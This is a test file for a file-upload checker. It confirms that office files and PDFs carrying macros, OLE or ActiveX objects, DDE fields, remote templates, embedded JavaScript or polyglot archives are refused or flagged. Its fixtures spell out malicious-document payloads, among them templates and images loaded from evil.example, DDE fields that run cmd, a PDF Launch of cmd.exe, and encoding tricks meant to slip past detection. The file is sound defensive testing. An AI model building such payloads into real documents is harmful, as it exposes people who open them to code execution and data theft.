import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import {
  type Entry,
  makeOfficeFile,
  makeOpenDocument,
  makePdf,
  makeZip,
  samplePdf,
} from '#tests/support/sample-files.ts';
import { checkFile } from './check-file.server.ts';

/* Documents that run programs or load other files when somebody opens them. @see PD-35 */

const part = (name: string, content: string | Buffer = 'x'): Entry => ({ name, content: Buffer.from(content) });
const relation = (type: string, target: string, mode = 'TargetMode="External"') =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1"
    Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${mode}/></Relationships>`;
const utf16 = (text: string) => Buffer.from(`\ufeff${text}`, 'utf16le');

const docx = (...more: Entry[]) => makeOfficeFile('docx', more);
const xlsx = (...more: Entry[]) => makeOfficeFile('xlsx', more);
const template = relation('attachedTemplate', 'https://evil.example/t.dotm');

describe('An office file is refused', () => {
  it.each<[string, string, Buffer, string]>([
    ['Basic in OpenDocument', 'a.odt', makeOpenDocument('text', [part('Basic/Standard/Module1.xml')]), 'macros'],
    ['Python in OpenDocument', 'a.ods', makeOpenDocument('spreadsheet', [part('Scripts/python/a.py')]), 'macros'],
    [
      'a macro of an event in OpenDocument',
      'a.odp',
      makeOpenDocument('presentation', [part('styles.xml', '<script:event-listener script:language="ooo:script"/>')]),
      'macros',
    ],
    ['a binary object in OpenDocument', 'a.odt', makeOpenDocument('text', [part('Object 1')]), 'embedded objects'],
    [
      'DDE in OpenDocument',
      'a.ods',
      makeOpenDocument('spreadsheet', [part('content.xml', '<office:dde-source office:dde-application="cmd"/>')]),
      'external content',
    ],
    ['macros of Excel 4', 'a.xlsx', xlsx(part('xl/macrosheets/sheet1.xml')), 'macros'],
    ['ActiveX', 'a.docx', docx(part('word/activeX/activeX1.xml')), 'embedded objects'],
    ['an OLE object', 'a.docx', docx(part('word/embeddings/oleObject1.bin')), 'embedded objects'],
    ['an embedded document with macros', 'a.docx', docx(part('word/embeddings/a.docm')), 'embedded objects'],
    [
      'a template of another server',
      'a.docx',
      docx(part('word/_rels/settings.xml.rels', template)),
      'external content',
    ],
    [
      'such a template in UTF-16',
      'a.docx',
      docx(part('word/_rels/settings.xml.rels', utf16(template))),
      'external content',
    ],
    [
      'such a template with character references',
      'a.docx',
      docx(
        part('word/_rels/settings.xml.rels', template.replace('External', '&#69;xternal').replace('"ht', '"&#x68;t')),
      ),
      'external content',
    ],
    [
      'a linked object',
      'a.pptx',
      makeOfficeFile('pptx', [part('ppt/slides/_rels/slide1.xml.rels', relation('oleObject', 'file:///x'))]),
      'external content',
    ],
    [
      'a link to another workbook',
      'a.xlsx',
      xlsx(part('xl/externalLinks/_rels/externalLink1.xml.rels', relation('externalLinkPath', 'other.xlsx'))),
      'external content',
    ],
    [
      'a frame',
      'a.docx',
      docx(part('word/_rels/webSettings.xml.rels', relation('frame', 'https://evil.example'))),
      'external content',
    ],
    [
      'a picture of another computer',
      'a.docx',
      docx(part('word/_rels/document.xml.rels', relation('image', '\\\\evil.example\\a.png'))),
      'external content',
    ],
    [
      'DDE in a spreadsheet',
      'a.xlsx',
      xlsx(part('xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>')),
      'external content',
    ],
    [
      'DDE in a document, in several elements',
      'a.docx',
      docx(
        part(
          'word/document.xml',
          '<w:instrText>DDE</w:instrText></w:r><w:r><w:instrText xml:space="preserve">AUTO c:\\cmd</w:instrText>',
        ),
      ),
      'external content',
    ],
    [
      'DDE in a simple field',
      'a.docx',
      docx(part('word/header1.xml', `<w:fldSimple w:instr='DDE cmd "/c calc"'/>`)),
      'external content',
    ],
    [
      'a program that a slide starts',
      'a.pptx',
      makeOfficeFile('pptx', [part('ppt/slides/slide1.xml', '<a:hlinkClick action="ppaction://program"/>')]),
      'embedded objects',
    ],
    [
      'an embedded document with a template of another server',
      'a.docx',
      docx({
        name: 'word/embeddings/a.docx',
        content: docx(part('word/_rels/settings.xml.rels', template)),
        isStored: true,
      }),
      'external content',
    ],
    ['a PDF within', 'a.docx', docx({ name: 'a', content: samplePdf, isStored: true }), 'mismatch'],
  ])('with %s', async (_what, name, content, reason) => {
    await expect(checkFile(name, content)).rejects.toMatchObject({ reason });
  });
});

describe('An office file is accepted', () => {
  // A search that starts again at every opening takes hours for these.
  it('with hundreds of thousands of unfinished elements', async () => {
    const unfinished = [
      part('word/_rels/document.xml.rels', '<Relationship '.repeat(400_000)),
      part('word/document.xml', '<w:instrText '.repeat(400_000)),
    ];
    expect(await checkFile('a.docx', docx(...unfinished))).toMatchObject({ type: 'docx' });
  });

  const link = relation('hyperlink', 'https://school.example');
  it.each<[string, string, Buffer]>([
    ['a link for readers', 'a.docx', docx(part('word/_rels/document.xml.rels', link))],
    [
      'a local template',
      'a.docx',
      docx(part('word/_rels/settings.xml.rels', relation('attachedTemplate', 'a.dotx', ''))),
    ],
    [
      'the workbook of a chart',
      'a.pptx',
      makeOfficeFile('pptx', [{ name: 'ppt/embeddings/Microsoft_Excel_Sheet1.xlsx', content: xlsx() }]),
    ],
    ['a formula', 'a.odt', makeOpenDocument('text', [part('Object 1/content.xml', '<math/>')])],
    [
      'the word DDE in its text',
      'a.docx',
      docx(part('word/document.xml', '<w:t>DDEAUTO is a field</w:t><w:instrText>PAGE</w:instrText>')),
    ],
    [
      'fonts and a thumbnail',
      'a.odt',
      makeOpenDocument('text', [part('Thumbnails/thumbnail.png'), part('Fonts/a.ttf')]),
    ],
  ])('with %s', async (_what, name, content) => {
    await expect(checkFile(name, content)).resolves.toMatchObject({ hasActiveContent: false });
  });
});

describe('A PDF', () => {
  const packed = (objects: string, type = 'ObjStm') =>
    Buffer.concat([
      Buffer.from(`1 0 obj\n<< /Type /${type} /Filter /FlateDecode >>\nstream\r\n`),
      deflateSync(objects),
      Buffer.from('\nendstream\nendobj'),
    ]);

  it.each<[string, string | Buffer]>([
    ['a script', '1 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj'],
    ['a script with an escaped name', '1 0 obj << /S /J#61vaScr#69pt /J#53 (app.alert(1)) >> endobj'],
    ['a script of a rendition', '1 0 obj << /S /Rendition /JS 4 0 R >> endobj'],
    ['a program', '1 0 obj << /OpenAction << /S /Launch /F (cmd.exe) >> >> endobj'],
    ['another file', '1 0 obj << /Type /EmbeddedFile >> endobj'],
    ['a form with scripts of its own', '1 0 obj << /XFA [(a) 1 0 R] >> endobj'],
    ['a script in packed objects', packed('<< /S /JavaScript /JS (app.alert(1)) >>')],
    ['a script in packed objects with an escaped name', packed('<< /S /JavaScript >>', 'Obj#53tm')],
    [
      'packed objects that cannot be read',
      Buffer.concat([Buffer.from('1 0 obj << /Type /ObjStm >>\nstream\n'), Buffer.alloc(90, 1)]),
    ],
  ])('with %s is accepted and marked', async (_what, objects) => {
    await expect(checkFile('a.pdf', makePdf(objects))).resolves.toMatchObject({ hasActiveContent: true });
  });

  it.each<[string, string | Buffer]>([
    ['a form and links', '1 0 obj << /AcroForm << >> /S /URI /OpenAction [3 0 R /Fit] >> endobj'],
    ['harmless packed objects', packed('<< /Type /Page >>')],
    ['a picture', packed('(/JavaScript)', 'XObject')],
  ])('with %s is not marked', async (_what, objects) => {
    await expect(checkFile('a.pdf', makePdf(objects))).resolves.toMatchObject({ hasActiveContent: false });
  });

  it('that is also a ZIP archive is refused', async () => {
    const zip = makeZip([part('evil.exe', 'MZ')]);
    for (const content of [Buffer.concat([samplePdf, zip, Buffer.from('%%EOF')]), shifted(samplePdf, zip)])
      await expect(checkFile('a.pdf', content)).rejects.toMatchObject({ reason: 'mismatch' });
  });

  it('with packed objects that unpack to more than 50 MB is refused', async () => {
    const content = makePdf(packed(' '.repeat(60_000_000)));
    await expect(checkFile('a.pdf', content)).rejects.toMatchObject({ reason: 'unpacks too large' });
  });
});

/** The archive after the PDF, with offsets of the whole file, and a comment that ends the PDF. */
function shifted(pdf: Buffer, zip: Buffer): Buffer {
  const comment = Buffer.from('\n%%EOF');
  const moved = Buffer.from(zip);
  const end = moved.length - 22;
  moved.writeUInt32LE(moved.readUInt32LE(end + 16) + pdf.length, end + 16);
  moved.writeUInt16LE(comment.length, end + 20);
  return Buffer.concat([pdf, moved, comment]);
}
